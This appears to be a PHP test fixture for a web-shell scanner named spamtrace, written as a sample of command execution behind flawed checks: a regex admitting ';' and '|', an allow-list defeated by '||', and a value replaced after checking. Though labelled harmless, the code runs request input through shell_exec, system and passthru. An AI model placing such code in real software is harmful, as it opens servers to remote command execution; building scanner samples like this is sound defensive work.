<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Runs what the request sends behind checks that leave it a command: a pattern whose
// class lets ";" and "|" through, a list check joined by "||", and a listed value
// replaced after the check.
$c = $_POST['c'];
if (preg_match('/^[a-z ;|]+$/', $c)) {
    echo shell_exec($c);
}
if (in_array($c, array('uptime', 'df')) || isset($_POST['f'])) {
    system($c);
}
if (in_array($c, array('uptime', 'df'))) {
    $c = $_POST['raw'];
    passthru($c);
}
